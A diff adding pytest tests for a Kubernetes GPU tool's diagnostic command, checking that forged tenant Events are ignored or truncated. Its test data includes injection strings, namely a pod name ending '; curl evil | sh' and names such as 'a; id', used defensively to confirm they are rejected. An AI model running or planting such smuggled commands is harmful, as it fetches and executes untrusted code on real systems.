@@ -6,7 +6,7 @@ from typing import Any, Final
 
 import pytest
 
-from cardwise.cli.cluster import schedulers
+from cardwise.cli.cluster import podevents, schedulers
 from cardwise.cli.doctor import before, checks, exposure, facts, repairs
 from cardwise.cli.doctor.facts import Facts
 from cardwise.cli.doctor.finding import Finding, Severity
@@ -145,3 +145,59 @@ def test_before_an_installation_a_tenants_workloads_propose_no_value():
     found = [*before.judge(seen, names.NAMESPACE)]
     assert any("in namespaces of users" in finding.text for finding in found)
     assert not any("webhook.gpuMemUnit" in finding.remedy for finding in found)
+
+
+def forged(event: str, reason: str, message: str = "", **about: str) -> Json:
+    """An Event that a tenant writes into its namespace."""
+    metadata = {"namespace": TENANT, "name": event}
+    text = {"reason": reason, "message": message, "type": "Warning", "reportingComponent": "cardwise-extender"}
+    return {"metadata": metadata, "involvedObject": about, "lastTimestamp": "2026-01-01T00:00:00Z"} | text
+
+
+def test_events_of_tenants_name_no_node_for_deletion_and_wire_no_scheduler():
+    api = installed()
+    sound = findings(api)
+    message = "ExtendedResource gpu-n1-0 belongs to a card of node n1, so this node cannot publish its own; x"
+    node = {"kind": "Node", "name": "n1"}
+    api.add(
+        "events",
+        forged("e1", names.CARD_OF_ANOTHER_NODE, message, kind="Pod", namespace=TENANT, name="n2"),
+        forged("e2", names.CARD_OF_ANOTHER_NODE, message, kind="Pod", namespace=TENANT),
+        forged("e3", names.CARD_OF_ANOTHER_NODE, message, **node),
+        forged("e4", names.CARD_OF_ANOTHER_NODE, message) | {"metadata": {"namespace": "default", "name": "e4"}},
+    )
+    assert findings(api) == sound
+    name = "Z" * 3000 + "; curl evil | sh"
+    api.add(
+        "events",
+        forged("e5", names.BOUND_PAST_CARDWISE, kind="Pod", namespace=TENANT, name=name),
+        forged("e6", names.BOUND_PAST_CARDWISE, kind="Pod", namespace="fair", name="of-another-namespace"),
+        forged("e7", names.BOUND_PAST_CARDWISE),
+    )
+    assert findings(api) == sound
+    api.add("events", forged("e8", names.BOUND_PAST_CARDWISE, kind="Pod", namespace=TENANT, name="mine"))
+    (more,) = added(sound, findings(api))
+    assert more.level is Severity.NOTE
+    assert "(a-team/mine) disappeared" in more.text
+    assert more.text.endswith("by Events of cardwise-extender")
+    assert "helm upgrade" not in more.remedy
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"involvedObject": {}}, {"involvedObject": None}, {"involvedObject": {"kind": "Pod", "namespace": TENANT}},
+        {"involvedObject": {"kind": "Pod", "namespace": TENANT, "name": "a; id"}},
+        {"involvedObject": {"kind": "Pod", "namespace": TENANT, "name": "a" * 254}},
+        {"involvedObject": {"kind": "P; id", "namespace": TENANT, "name": "a"}},
+        {"involvedObject": {"kind": "Pod", "namespace": "other", "name": "a"}},
+        {"involvedObject": {"kind": "Node", "name": "a"}},
+        {"lastTimestamp": None}, {"lastTimestamp": "yesterday"}, {"lastTimestamp": "2026-11-21T12:00:00"},
+    ],
+)  # fmt: skip
+def test_what_is_no_event_about_an_object_of_its_namespace_is_none(change):
+    event = forged("e", "R" * 5000, "m" * 5000, kind="Pod", namespace=TENANT, name="a")
+    read = podevents.read(event)
+    assert read is not None
+    assert (len(read.reason), len(read.message)) == (128, 1024)
+    assert podevents.read(event | change) is None
